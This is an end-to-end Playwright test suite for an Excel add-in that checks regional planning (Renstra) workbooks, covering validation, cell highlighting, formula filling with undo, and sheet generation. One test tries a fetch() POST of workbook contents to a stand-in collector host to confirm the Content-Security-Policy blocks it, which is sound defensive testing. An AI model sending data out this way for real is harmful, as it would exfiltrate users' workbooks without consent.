/**
 * End to end in a real browser: the built add-in (dist/) opened in Debian's Chromium through
 * playwright-core (see pane-browser.ts), with the test host (test/host/office-host.ts) over the sample
 * workbook in place of office.js. Saves screenshots of the pane to test-results/.
 */
import { mkdirSync } from 'fs';
import { join } from 'path';
import type { Browser, Page } from 'playwright-core';
import { readXlsx } from '../../src/cli/read-xlsx';
import { SAMPLE } from '../helpers/load';
import { openKerangkaOnKecamatan, openPane, results } from './pane-browser';

let browser: Browser;
let page: Page;
let outside: string[];

beforeAll(async () => {
  ({ browser, page, outside } = await openPane(await readXlsx(SAMPLE)));
}, 120000);

afterAll(async () => {
  await browser?.close();
});

const host = <T>(f: string) => page.evaluate(f) as Promise<T>;

test('Periksa workbook, go to H108, highlight and restore, in a real browser', async () => {
  await page.getByRole('button', { name: 'Periksa workbook' }).click();
  await page.getByText(/6 tabel dikenali · 27 galat/).waitFor({ timeout: 30000 });
  // The Jumlah row of Tabel 4.2, 12.000.000 short in 2027-2030.
  for (const cell of ['H108', 'J108', 'L108', 'N108']) {
    await expect(page.locator(`[data-cell="Tabel 4.2!${cell}"]`).getByText(/kurang Rp 12\.000\.000/).isVisible()).resolves.toBe(true);
  }
  mkdirSync(results, { recursive: true });
  await page.screenshot({ path: join(results, 'taskpane-hasil.png') });
  await page.getByRole('button', { name: 'Buka sel H108 di lembar Tabel 4.2' }).click();
  await page.waitForFunction(() => window.__RENSTRA_HOST__.context.selection !== undefined);
  expect(await host<string>('window.__RENSTRA_HOST__.context.selection')).toBe("'Tabel 4.2'!H108");
  expect(await host<string>('window.__RENSTRA_HOST__.context.activeSheet')).toBe('Tabel 4.2');

  // The custom functions are registered in the same (shared runtime) page, and the ribbon command too.
  expect(await host<number>('window.__RENSTRA_HOST__.functions.size')).toBe(12);
  expect(await host<boolean>("window.__RENSTRA_HOST__.commands.has('periksa')")).toBe(true);

  await page.screenshot({ path: join(results, 'taskpane-temuan-h108.png') });

  await page.getByRole('button', { name: 'Sorot', exact: true }).click();
  await page.getByText(/sel disorot/).waitFor();
  expect(await host<string>("window.__RENSTRA_HOST__.context.fills.get('Tabel 4.2!H108').color")).toBe('#F8C9C4');
  expect(await host<number>('window.__RENSTRA_HOST__.context.fills.size')).toBeGreaterThan(20);
  await page.getByRole('button', { name: 'Hapus sorotan' }).click();
  await page.getByText('Sorotan dihapus').waitFor();
  expect(await host<number>('window.__RENSTRA_HOST__.context.fills.size')).toBe(0);
}, 120000);

test('Isi kolom terhitung: preview, apply in one batch, check again, then undo to the exact previous state', async () => {
  const snapshot = () => host<string>('JSON.stringify(window.__RENSTRA_WORKBOOK__.sheets.map((s) => [s.name, s.rows]))');
  const before = await snapshot();
  await page.getByRole('button', { name: 'Isi kolom terhitung' }).click();
  await page.getByText(/sel akan diisi rumus/).waitFor();
  await page.getByRole('button', { name: 'Terapkan' }).isEnabled();
  await page.waitForFunction(() => !(document.querySelector('button') as HTMLButtonElement).disabled);
  await page.screenshot({ path: join(results, 'pengisian-pratinjau.png') });
  await page.getByRole('button', { name: 'Terapkan' }).click();
  await page.getByText(/sel diisi rumus/).waitFor();
  const q7 = await host<{ f: string }>("window.__RENSTRA_WORKBOOK__.sheets.find((s) => s.name === 'Tabel 2.7').rows[6][16]");
  expect(q7.f).toBe('RENSTRA.RASIO_CAPAIAN(L7,F7)');
  expect(await snapshot()).not.toBe(before);
  await page.getByRole('button', { name: 'Periksa workbook' }).click();
  await page.getByText(/tabel dikenali/).waitFor();
  await page.getByRole('button', { name: 'Batalkan pengisian' }).click();
  await page.getByText('Pengisian dibatalkan').waitFor();
  expect(await snapshot()).toBe(before);
}, 120000);

test('the ribbon button Periksa (ExecuteFunction) opens the pane on fresh results and completes its event', async () => {
  await page.reload();
  await page.getByText(/Tekan "Periksa workbook"/).waitFor();
  expect(await page.getByText(/tabel dikenali/).count()).toBe(0);
  await page.evaluate(() => {
    const w = window as unknown as { __completed: boolean };
    w.__completed = false;
    const periksa = window.__RENSTRA_HOST__.commands.get('periksa') as (e: { completed(): void }) => Promise<void>;
    void periksa({ completed: () => (w.__completed = true) });
  });
  await page.waitForFunction(() => (window as unknown as { __completed: boolean }).__completed === true);
  await page.getByText(/6 tabel dikenali/).waitFor({ timeout: 30000 });
}, 60000);

test('nothing leaves the add-in: no request to another origin while checking, filling and reporting, and the CSP forbids one', async () => {
  await page.reload();
  outside.length = 0;
  await page.getByRole('button', { name: 'Periksa workbook' }).click();
  await page.getByText(/tabel dikenali/).waitFor({ timeout: 30000 });
  await page.getByRole('button', { name: 'Laporan' }).click();
  await page.getByText('Laporan ditulis').waitFor();
  await page.getByRole('button', { name: 'Isi kolom terhitung' }).click();
  await page.getByText(/sel akan diisi rumus/).waitFor();
  await page.getByRole('button', { name: 'Terapkan' }).click();
  await page.getByText(/sel diisi rumus/).waitFor();
  expect(outside).toEqual([]);
  // The page's own Content-Security-Policy refuses a request to elsewhere (a script injected into
  // the pane could not send the workbook out either).
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toMatch(/connect-src 'self'/);
  const refused = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const fetched = await fetch('https://pengumpul-data.example/kirim', { method: 'POST', body: 'isi workbook' }).then(
      () => 'terkirim',
      () => 'ditolak',
    );
    await new Promise((r) => setTimeout(r, 100));
    return { fetched, violations };
  });
  expect(refused).toEqual({ fetched: 'ditolak', violations: ['connect-src'] });
  expect(outside).toEqual([]);
}, 120000);

test('Buat kerangka: the nomenclature loads from the add-in itself, the T-C.27 lands on a new sheet, and Periksa recognises it with no error', async () => {
  await page.reload();
  outside.length = 0;
  await openKerangkaOnKecamatan(page, 'kecamatan');
  await page.getByRole('checkbox', { name: /^7\.01\.01 PROGRAM PENUNJANG/ }).check();
  await page.getByRole('checkbox', { name: /^7\.01\.06 / }).check();
  await page.getByRole('textbox', { name: /Perangkat daerah/ }).fill('Kecamatan Kartoharjo');
  await page.getByText('2 program, 19 kegiatan, 129 sub kegiatan · 2025-2029').waitFor();
  await page.screenshot({ path: join(results, 'kerangka-pilihan.png') });
  await page.getByRole('button', { name: 'Buat lembar' }).click();
  await page.getByText('Lembar "Kerangka T-C.27" dibuat').waitFor({ timeout: 30000 });

  const sheet = await host<{ names: string[]; a9: unknown; b10: unknown; g10: unknown; frozen: number; print: unknown; active: string }>(`(() => {
    const ws = window.__RENSTRA_HOST__.context.workbook.worksheets;
    const k = ws.getItem('Kerangka T-C.27');
    return { names: ws.names(), a9: k.sheet.rows[8][0], b10: k.sheet.rows[9][1], g10: k.sheet.rows[9][6], frozen: k.frozenRows, print: k.pageLayout, active: window.__RENSTRA_HOST__.context.activeSheet };
  })()`);
  expect(sheet.names[sheet.names.length - 1]).toBe('Kerangka T-C.27');
  expect(sheet.active).toBe('Kerangka T-C.27');
  expect(sheet.a9).toMatchObject({ v: '7.01.01', fmt: '@', bold: true });
  expect(sheet.b10).toMatchObject({ v: 'Perencanaan, Penganggaran, dan Evaluasi Kinerja Perangkat Daerah', bold: true });
  expect(sheet.g10).toMatchObject({ f: 'SUM(G11:G23)', fmt: '#,##0' });
  expect(sheet.frozen).toBe(8);
  expect(sheet.print).toMatchObject({ orientation: 'Landscape', printTitleRows: '$5:$8' });

  await page.getByRole('button', { name: 'Periksa workbook' }).click();
  // The sample's six tables and 27 errors, and the new table without any error of its own.
  await page.getByText(/7 tabel dikenali · 27 galat/).waitFor({ timeout: 30000 });
  // Its sheet has warnings only (the empty sub kegiatan): closed until opened.
  await page.getByRole('button', { name: 'Kerangka T-C.27 — 0 galat, 129 peringatan' }).click();
  await page.getByRole('heading', { name: /Rencana Program, Kegiatan dan Pendanaan \(T-C.27\) A5:S159/ }).waitFor();
  const onKerangka = page.locator('[data-cell^="Kerangka T-C.27!"]');
  expect(await onKerangka.count()).toBe(129);
  expect(await onKerangka.filter({ hasText: 'Galat' }).count()).toBe(0);
  await page.screenshot({ path: join(results, 'kerangka-diperiksa.png') });
  // The nomenclature chunk came from the add-in's own origin; nothing went anywhere else.
  expect(outside).toEqual([]);
}, 120000);
